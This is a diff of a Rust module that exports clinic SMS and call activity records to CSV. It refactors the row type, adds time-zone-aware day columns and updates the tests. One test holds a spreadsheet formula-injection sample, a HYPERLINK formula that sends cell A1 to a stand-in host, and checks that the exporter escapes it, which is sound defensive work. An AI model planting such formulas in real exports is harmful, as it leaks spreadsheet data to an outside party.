@@ -7,84 +7,29 @@ use serde_json::{json, Value};
 
 use crate::store::{Database, StoreError};
 
-/// One activity with its event, as exported for PRTF reporting.
-#[derive(Debug, Clone, PartialEq, serde::Serialize)]
-pub struct ActivityRow {
-    pub activity_id: i64,
-    pub ecm_activity_id: Option<i64>,
-    pub activity_type: String,
-    pub direction: String,
-    pub status: String,
-    pub patient_id: Option<i64>,
-    pub ecm_patient_id: Option<i64>,
-    pub patient_name: Option<String>,
-    pub performed_by_id: String,
-    pub assigned_to_id: String,
-    pub text_message_id: Option<i64>,
-    pub voice_call_id: Option<i64>,
-    pub event_id: Option<i64>,
-    pub event_type: Option<String>,
-    pub occurred_at: Option<String>,
-}
+pub use crate::activity_rows::{ActivityFilter, ActivityRow};
 
-/// Which activities a report or the activity log holds: inclusive
-/// `YYYY-MM-DD` dates (UTC) of the event, the type, the patient.
-#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
-#[serde(default)]
-pub struct ActivityFilter {
-    pub from: Option<String>,
-    pub to: Option<String>,
-    /// "sms" or "call"
-    pub activity_type: Option<String>,
-    pub patient_id: Option<i64>,
-}
-
-/// Activities matching `filter`, oldest first.
+/// Activities matching `filter`, oldest first, days taken in the clinic's
+/// zone (`clinic.time_zone`); see [`crate::activity_rows`].
 pub fn activities(db: &Database, filter: &ActivityFilter) -> Result<Vec<ActivityRow>, StoreError> {
-    let mut stmt = db.conn().prepare_cached(
-        "SELECT a.id, a.ecm_activity_id, a.activity_type, a.direction, a.status, a.patient_id, p.ecm_patient_id, p.name,
-                a.performed_by_id, a.assigned_to_id, a.text_message_id, a.voice_call_id, e.id, e.event_type,
-                COALESCE(e.occurred_at, a.created_at) AS at
-           FROM activities a
-           LEFT JOIN events e ON e.activity_id = a.id
-           LEFT JOIN patients p ON p.id = a.patient_id
-          WHERE (?1 IS NULL OR substr(at, 1, 10) >= ?1) AND (?2 IS NULL OR substr(at, 1, 10) <= ?2)
-            AND (?3 IS NULL OR a.activity_type = ?3) AND (?4 IS NULL OR a.patient_id = ?4)
-          ORDER BY at, a.id",
-    )?;
-    let params = params![filter.from, filter.to, filter.activity_type, filter.patient_id];
-    let rows = stmt.query_map(params, |r| {
-        Ok(ActivityRow {
-            activity_id: r.get(0)?,
-            ecm_activity_id: r.get(1)?,
-            activity_type: r.get(2)?,
-            direction: r.get(3)?,
-            status: r.get(4)?,
-            patient_id: r.get(5)?,
-            ecm_patient_id: r.get(6)?,
-            patient_name: r.get(7)?,
-            performed_by_id: r.get(8)?,
-            assigned_to_id: r.get(9)?,
-            text_message_id: r.get(10)?,
-            voice_call_id: r.get(11)?,
-            event_id: r.get(12)?,
-            event_type: r.get(13)?,
-            occurred_at: r.get(14)?,
-        })
-    })?;
-    Ok(rows.collect::<Result<_, _>>()?)
+    let zone = crate::clinic_zone::zone(db.setting(crate::clinic_zone::SETTING)?.as_deref());
+    crate::activity_rows::activities(db, filter, zone)
 }
 
 /// The CSV columns, in order: the field names of [`ActivityRow`].
-pub const ACTIVITY_COLUMNS: [&str; 15] = [
+pub const ACTIVITY_COLUMNS: [&str; 21] = [
     "activity_id",
     "ecm_activity_id",
     "activity_type",
     "direction",
     "status",
+    "status_reason",
+    "ecm_status",
     "patient_id",
     "ecm_patient_id",
     "patient_name",
+    "by",
+    "ecm_user_id",
     "performed_by_id",
     "assigned_to_id",
     "text_message_id",
@@ -92,24 +37,30 @@ pub const ACTIVITY_COLUMNS: [&str; 15] = [
     "event_id",
     "event_type",
     "occurred_at",
+    "occurred_at_local",
+    "clinic_day",
 ];
 
 impl ActivityRow {
     /// The row's cells in [`ACTIVITY_COLUMNS`] order, as written (an absent
     /// value is an empty cell).
-    fn cells(&self) -> [String; 15] {
+    fn cells(&self) -> [String; 21] {
         fn opt<T: ToString>(v: &Option<T>) -> String {
             v.as_ref().map(ToString::to_string).unwrap_or_default()
         }
         [
-            self.activity_id.to_string(),
+            opt(&self.activity_id),
             opt(&self.ecm_activity_id),
             self.activity_type.clone(),
             self.direction.clone(),
             self.status.clone(),
+            opt(&self.status_reason),
+            opt(&self.ecm_status),
             opt(&self.patient_id),
             opt(&self.ecm_patient_id),
             opt(&self.patient_name),
+            self.by.clone(),
+            opt(&self.ecm_user_id),
             self.performed_by_id.clone(),
             self.assigned_to_id.clone(),
             opt(&self.text_message_id),
@@ -117,6 +68,8 @@ impl ActivityRow {
             opt(&self.event_id),
             opt(&self.event_type),
             opt(&self.occurred_at),
+            opt(&self.occurred_at_local),
+            opt(&self.clinic_day),
         ]
     }
 }
@@ -282,7 +235,7 @@ mod tests {
         assert!(activities(&db, &f(None, None, Some(p + 1))).unwrap().is_empty());
         let csv = activities_csv(&rows);
         assert!(csv.starts_with("activity_id,ecm_activity_id,activity_type"), "{csv}");
-        assert!(csv.contains(",789,sms,outbound,created,"));
+        assert!(csv.contains(",789,sms,outbound,delivered,,created,"), "{csv}");
         assert!(activities_csv(&[]).starts_with("activity_id,"));
     }
 
@@ -299,7 +252,8 @@ mod tests {
         let csv = activities_csv(&rows);
         let mut reader = csv::Reader::from_reader(csv.as_bytes());
         let record = reader.records().next().unwrap().unwrap();
-        assert_eq!(&record[7], "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "{csv}");
+        let name = ACTIVITY_COLUMNS.iter().position(|c| *c == "patient_name").unwrap();
+        assert_eq!(&record[name], "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "{csv}");
         for (raw, shown) in [
             ("=1+1", "'=1+1"),
             ("+18055550100", "'+18055550100"),
